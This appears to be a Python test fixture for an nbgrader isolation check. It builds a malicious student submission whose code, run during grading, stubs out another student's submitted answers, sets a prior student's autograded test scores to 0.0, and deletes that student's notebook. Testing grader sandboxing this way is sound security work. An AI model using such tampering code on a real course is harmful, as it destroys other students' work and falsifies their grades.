"""Other students' files changed from the submission's code.

From the top level of an answer cell (grading process and nbgrader's kernel) and from inside the answered function,
the code finds the course root that holds its own submission and:
- replaces every answer of ``zzz_honest``'s submitted notebook (graded after it) by a stub;
- marks ``aaa_honest``'s autograded notebook (graded before it) with every test cell scoring 0.0 (from a cell), and
  deletes it (from a function).
Each file it changed says where from (``tampered_by`` in the notebook's metadata). Its own sigmoid is a stub.
"""
from pathlib import Path

ME = Path(__file__).stem
OS_BOUNDARY = True

TAMPER = (Path(__file__).with_name("_student.py").read_text() + '''

def _tamper_files(me, before, after, where):
    place = f"{_place()} {where}"
    for root in _course_roots(me):
        for path in glob.glob(os.path.join(root, "submitted", after, "*", "*.ipynb")):
            try:
                with open(path) as f:
                    nb = json.load(f)
                for cell in nb["cells"]:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        cell["source"] = "raise NotImplementedError()"
                nb["metadata"]["tampered_by"] = nb["metadata"].get("tampered_by", []) + [place]
                _write_json(path, nb)
            except Exception:
                pass
        for path in glob.glob(os.path.join(root, "autograded", before, "*", "*.ipynb")):
            try:
                if where == "function":
                    os.unlink(path)
                    continue
                with open(path) as f:
                    nb = json.load(f)
                for cell in nb["cells"]:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                        cell["outputs"] = [{"output_type": "execute_result", "execution_count": None, "metadata": {},
                                            "data": {"text/plain": "0.0"}}]
                nb["metadata"]["tampered_by"] = nb["metadata"].get("tampered_by", []) + [place]
                _write_json(path, nb)
            except Exception:
                pass


_tamper_files({me!r}, "aaa_honest", "zzz_honest", "cell")
''').replace("{me!r}", repr(ME))

STUB = '''def sigmoid(z):
    if not _FOUND.get("tampered from a function"):
        _FOUND["tampered from a function"] = True
        _tamper_files({me!r}, "aaa_honest", "zzz_honest", "function")
    raise NotImplementedError()
'''

ANSWERS = {"sigmoid": TAMPER + STUB.format(me=ME)}
EXPECTED = {"sigmoid-test": 0.0}
FLAGGED = False
